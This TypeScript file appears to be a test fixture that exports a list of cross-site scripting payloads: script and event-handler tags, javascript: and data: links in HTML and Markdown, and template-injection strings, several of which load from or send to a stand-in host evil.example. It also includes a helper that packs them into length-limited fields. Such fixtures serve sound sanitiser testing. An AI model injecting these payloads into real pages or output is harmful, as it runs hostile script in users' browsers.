/** Texts that would do something on a page if it took any part of them for HTML, an address, a style or a script. */
export const hostileTexts = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x"\nonerror="alert(1)">',
  '<img src=https://evil.example/pixel.png>',
  '"><img src=x onerror=alert(1)>',
  `'><img src=x onerror=alert(1)>`,
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<iframe src="//evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x"></object>',
  '<embed src="https://evil.example/x">',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<br onclick=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="//evil.example" onclick="alert(1)">x</a>',
  '<form action="https://evil.example"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<style>*{display:none}</style>',
  '<p style="position:fixed;inset:0">x</p>',
  '</textarea><img src=x onerror=alert(1)>',
  '</title><img src=x onerror=alert(1)>',
  '--><img src=x onerror=alert(1)>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/pixel.png)',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox)',
  '[x]: javascript:alert(1)\n[x]',
  '[a](https://x.example "onmouseover=alert(1) x")',
  '<javascript:alert(1)>',
  '$\\href{javascript:alert(1)}{x}$',
  '$\\htmlStyle{color:red}{x}$',
  '$\\includegraphics{x.png}$',
  '```"><script>alert(1)</script>\nx\n```',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '\\"};alert(1);//',
] as const

/** All of them in as few texts as a field of this length needs. */
export function hostilePacks(maxLength: number): string[] {
  const packs = ['']
  for (const text of hostileTexts) {
    const [last = ''] = packs.slice(-1)
    const joined = last === '' ? text : `${last}\n\n${text}`
    if (joined.length > maxLength) packs.push(text)
    else packs[packs.length - 1] = joined
  }
  return packs
}
